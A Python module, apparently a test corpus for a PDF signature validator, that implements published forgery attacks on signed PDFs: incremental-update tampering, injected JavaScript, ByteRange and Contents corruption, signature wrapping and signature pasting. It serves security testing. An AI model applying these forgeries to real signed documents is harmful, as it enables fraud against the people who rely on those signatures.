"""How signed PDFs are forged: each attack takes the bytes of a signed file and returns the forged ones.

Named as in the literature: universal signature forgery, incremental saving, signature wrapping (Mladenov et al. 2019),
shadow attacks (Mainka et al. 2021), evil annotation and sneaky signature attacks (Rohlmann et al. 2021).
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name as name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Attack = Callable[[bytes], bytes]


class Forger(IncrementalPdfFileWriter):
    """Appends an update as a signing program does, metadata untouched."""

    def _update_meta(self) -> None:
        return

    @property
    def page(self) -> generic.DictionaryObject:
        return self.root["/Pages"]["/Kids"][0].get_object()

    @property
    def fields(self) -> generic.ArrayObject:
        return self.root["/AcroForm"]["/Fields"][0]["/Kids"]


def update(content: bytes, change: Callable[[Forger], None]) -> bytes:
    """Append one incremental update that ``change`` fills."""
    writer = Forger(io.BytesIO(content))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def incremental(change: Callable[[Forger], None]) -> Attack:
    return lambda content: update(content, change)


# --- incremental saving: the update shows something else -------------------------------------------------------------


def rewrite_text(pdf: Forger) -> None:
    stream = pdf.page["/Contents"]
    stream._data = stream.data.replace(b"Developing", b"Excellent!")
    stream._encoded_data = None
    pdf.update_container(stream)


def other_content(pdf: Forger) -> None:
    stream = generic.StreamObject(stream_data=b"BT /F1 20 Tf 72 700 Td (Outcome: Excellent) Tj ET")
    pdf.page[name("/Contents")] = pdf.add_object(stream)
    pdf.update_container(pdf.page)


def swap_font(pdf: Forger) -> None:
    font = pdf.page["/Resources"]["/Font"]["/F1"]
    differences = generic.ArrayObject([generic.NumberObject(68), name("/E"), name("/x")])
    font[name("/Encoding")] = generic.DictionaryObject({name("/Differences"): differences})
    pdf.update_container(font)


def add_note(pdf: Forger, subtype: str = "/FreeText") -> None:
    rectangle = generic.ArrayObject([generic.NumberObject(number) for number in (60, 690, 400, 730)])
    note = generic.DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name(subtype),
            name("/Rect"): rectangle,
            name("/Contents"): generic.pdf_string("Outcome: Excellent"),
            name("/DA"): generic.pdf_string("/Helv 20 Tf 0 g"),
        }
    )
    pdf.page[name("/Annots")] = generic.ArrayObject([pdf.add_object(note)])
    pdf.update_container(pdf.page)


def hide_behind_redaction(pdf: Forger) -> None:
    add_note(pdf, "/Redact")


def add_page(pdf: Forger) -> None:
    pages = pdf.root["/Pages"]
    kids = pages["/Kids"]
    page = generic.DictionaryObject({key: pdf.page.raw_get(key) for key in pdf.page if key != "/Annots"})
    kids.append(pdf.add_object(page))
    pages[name("/Count")] = generic.NumberObject(len(kids))
    pdf.update_container(kids)
    pdf.update_container(pages)


def drop_page(pdf: Forger) -> None:
    pages = pdf.root["/Pages"]
    del pages["/Kids"][0]
    pages[name("/Count")] = generic.NumberObject(1)
    pdf.update_container(pages["/Kids"])
    pdf.update_container(pages)


def crop_page(pdf: Forger) -> None:
    pdf.page[name("/CropBox")] = generic.ArrayObject([generic.NumberObject(number) for number in (0, 0, 595, 400)])
    pdf.update_container(pdf.page)


def retitle(pdf: Forger) -> None:
    info = pdf.trailer["/Info"]
    info[name("/Title")] = generic.pdf_string("Certificate with distinction")
    pdf.update_container(info)


def other_metadata(pdf: Forger) -> None:
    stream = generic.StreamObject(stream_data=b'<x:xmpmeta xmlns:x="adobe:ns:meta/"/>')
    pdf.root[name("/Metadata")] = pdf.add_object(stream)
    pdf.update_root()


def run_script(pdf: Forger) -> None:
    script = {name("/S"): name("/JavaScript"), name("/JS"): generic.pdf_string("app.alert('Excellent')")}
    pdf.root[name("/OpenAction")] = pdf.add_object(generic.DictionaryObject(script))
    pdf.update_root()


def other_language(pdf: Forger) -> None:
    pdf.root[name("/Lang")] = generic.pdf_string("la")
    pdf.update_root()


def hidden_object(pdf: Forger) -> None:
    pdf.add_object(generic.StreamObject(stream_data=b"for later"))


def remove_field(pdf: Forger) -> None:
    pdf.root["/AcroForm"][name("/Fields")] = generic.ArrayObject()
    pdf.update_container(pdf.root["/AcroForm"])


def empty_value(pdf: Forger) -> None:
    field = pdf.fields[0].get_object()
    field[name("/V")] = generic.NullObject()
    pdf.update_container(field)


def share_value(pdf: Forger) -> None:
    second = pdf.fields[1].get_object()
    second[name("/V")] = pdf.fields[0].get_object().raw_get("/V")
    pdf.update_container(second)


def move_field(pdf: Forger) -> None:
    field = pdf.fields[1].get_object()
    field[name("/Rect")] = generic.ArrayObject([generic.NumberObject(number) for number in (60, 690, 400, 730)])
    pdf.update_container(field)


def dress_field(pdf: Forger) -> None:
    """Give the empty field of the lead a picture that says more than was signed."""
    field = pdf.fields[1].get_object()
    picture = generic.StreamObject({name("/Subtype"): name("/Form")}, stream_data=b"BT (Excellent) Tj ET")
    field[name("/AP")] = generic.DictionaryObject({name("/N"): pdf.add_object(picture)})
    pdf.update_container(field)


def add_text_field(pdf: Forger) -> None:
    field = generic.DictionaryObject(
        {
            name("/FT"): name("/Tx"),
            name("/T"): generic.pdf_string("Outcome"),
            name("/V"): generic.pdf_string("Excellent"),
        }
    )
    pdf.root["/AcroForm"]["/Fields"].append(pdf.add_object(field))
    pdf.update_container(pdf.root["/AcroForm"]["/Fields"])


INCREMENTAL: tuple[Callable[[Forger], None], ...] = (
    rewrite_text, other_content, swap_font, add_note, hide_behind_redaction, add_page, drop_page, crop_page, retitle,
    other_metadata, run_script, other_language, hidden_object, remove_field, empty_value, share_value, move_field,
    dress_field, add_text_field,
)  # fmt: skip


# --- bytes: what follows, precedes or is missing ---------------------------------------------------------------------


def evil_table(content: bytes) -> bytes:
    """Append objects and a new cross-reference table by hand, without the end-of-file mark (ISA with errors)."""
    number = int(re.findall(rb"/Root (\d+) 0 R", content)[-1])
    at = len(content)
    table = b"%d 0 obj\n<</Type /Catalog>>\nendobj\nxref\n%d 1\n%010d 00000 n \ntrailer <</Root %d 0 R>>\n"
    return content + table % (number, number, at, number)


BYTES: dict[str, Attack] = {
    "line break": lambda content: content + b"\n",
    "blank": lambda content: content + b" ",
    "comment": lambda content: content + b"% harmless\n",
    "second end": lambda content: content + b"%%EOF\n",
    "rubbish": lambda content: content + bytes(range(256)),
    "loose object": lambda content: content + b"99 0 obj\n(Excellent)\nendobj\n",
    "evil table": evil_table,
    "the file twice": lambda content: content + content,
    "something before": lambda content: b"\n" + content,
    "last byte missing": lambda content: content[:-1],
    "last hundred bytes missing": lambda content: content[:-100],
    "half": lambda content: content[: len(content) // 2],
}


# --- universal signature forgery: the signature dictionary itself ----------------------------------------------------


def last(content: bytes, old: bytes, new: bytes, *, pad: bool = True) -> bytes:
    """Replace the last ``old`` by ``new``, filled up with blanks so that nothing else moves."""
    at = content.rindex(old)
    return content[:at] + (new.ljust(len(old)) if pad else new) + content[at + len(old) :]


def byte_range(content: bytes) -> bytes:
    return re.findall(rb"/ByteRange \[[^\]]*\] *", content)[-1]


def contents(content: bytes) -> bytes:
    return re.findall(rb"/Contents <[0-9A-F]{200,}>", content)[-1]


def part(content: bytes) -> bytes:
    return contents(content)[11:211]


def numbers(content: bytes) -> list[int]:
    return [int(number) for number in re.findall(rb"\d+", byte_range(content))]


def _range(text: str) -> Attack:
    return lambda content: last(content, byte_range(content), f"/ByteRange {text}".encode())


def _contents(text: bytes) -> Attack:
    return lambda content: last(content, contents(content), text)


def shorter_range(content: bytes) -> bytes:
    _start, length, after, rest = numbers(content)
    return last(content, byte_range(content), b"/ByteRange [0 %d %d %d]" % (length, after, rest - 20))


def wider_gap(content: bytes) -> bytes:
    _start, length, after, rest = numbers(content)
    return last(content, byte_range(content), b"/ByteRange [0 %d %d %d]" % (length - 40, after, rest))


def second_range(content: bytes) -> bytes:
    _start, length, after, rest = numbers(content)
    new = b"/ByteRange [0 %d %d %d %d 1]" % (length, after, rest, after)
    return last(content, byte_range(content), new)


FORGERY: dict[str, Attack] = {
    "range of zeros": _range("[0 0 0 0]"),
    "range null": _range("null"),
    "range empty": _range("[]"),
    "range negative": _range("[0 -1 -1 -1]"),
    "range of three": _range("[0 10 20]"),
    "range real": _range("[0.0 10.0 20.0 30.0]"),
    "range beyond the end": _range("[0 100 200 999999999]"),
    "range of names": _range("[/a /b /c /d]"),
    "range missing": lambda content: last(content, b"/ByteRange", b"/ByteRangX"),
    "range shorter": shorter_range,
    "range with a wider gap": wider_gap,
    "range of six": second_range,
    "range from one": lambda content: last(content, b"/ByteRange [0", b"/ByteRange [1"),
    "range written differently": lambda content: last(content, b"/ByteRange", b"/Byte#52ange", pad=False),
    "contents missing": lambda content: last(content, b"/Contents <", b"/Xontents <"),
    "contents empty": _contents(b"/Contents <>"),
    "contents null": _contents(b"/Contents null"),
    "contents zero": _contents(b"/Contents <00>"),
    "contents zeros": lambda content: last(
        content, contents(content), b"/Contents <%s>" % (b"0" * (len(contents(content)) - 12))
    ),
    "contents in small letters": lambda content: last(content, part(content), part(content).lower()),
    "contents with a blank": lambda content: last(content, contents(content)[-6:], contents(content)[-6:-2] + b" >"),
    "no subfilter": lambda content: last(content, b"/SubFilter", b"/SubFiltXX"),
    "sha1 subfilter": lambda content: last(content, b"/ETSI.CAdES.detached", b"/adbe.pkcs7.sha1"),
    "no type": lambda content: last(content, b"/Type /Sig\n", b"/Type /Sag\n"),
}  # fmt: skip


def wrap(content: bytes) -> bytes:
    """Signature wrapping: move the end of the file down, and put other objects and a new range into the gap."""
    _start, length, after, rest = numbers(content)
    signature = content[length:after].rstrip(b"0>") + b">"
    evil = b"\n9 0 obj\n(Excellent)\nendobj\n"
    new_after = length + len(signature) + len(evil) + 80
    patch = (b"/ByteRange [0 %d %d %d]" % (length, new_after, rest)).ljust(80)
    return content[:length] + signature + patch + evil + content[after : after + rest]


def wrap_behind(content: bytes) -> bytes:
    """Signature wrapping with the old range kept: the signed end is repeated behind an evil middle."""
    _start, _length, after, rest = numbers(content)
    return content[:after] + b"\n9 0 obj\n(Excellent)\nendobj\n" + content[after : after + rest]


def paste(content: bytes, other: bytes) -> bytes:
    """Put the signature of another document into this one."""
    room = len(contents(content))
    mine = contents(other)[:-1]
    return last(content, contents(content), mine[: room - 1].ljust(room - 1, b"0") + b">")
